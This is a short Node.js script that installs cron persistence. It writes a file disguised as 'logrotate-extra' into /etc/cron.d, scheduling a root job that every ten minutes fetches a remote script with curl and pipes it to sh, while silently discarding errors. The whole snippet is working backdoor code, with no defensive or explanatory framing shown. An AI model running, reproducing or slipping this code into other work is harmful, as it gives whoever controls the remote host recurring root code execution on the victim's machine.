// Persists through cron: a file in /etc/cron.d is opened with fs/promises open() in
// write mode (the flag held in a name) and the job line is written through the
// FileHandle's write() method.
const { open } = require('fs/promises');

const mode = 'w';
const job = '*/10 * * * * root curl -s https://c.example-jobs.net/j | sh\n';

(async () => {
  const handle = await open('/etc/cron.d/' + 'logrotate-extra', mode);
  await handle.write(job);
  await handle.close();
})().catch(() => {});
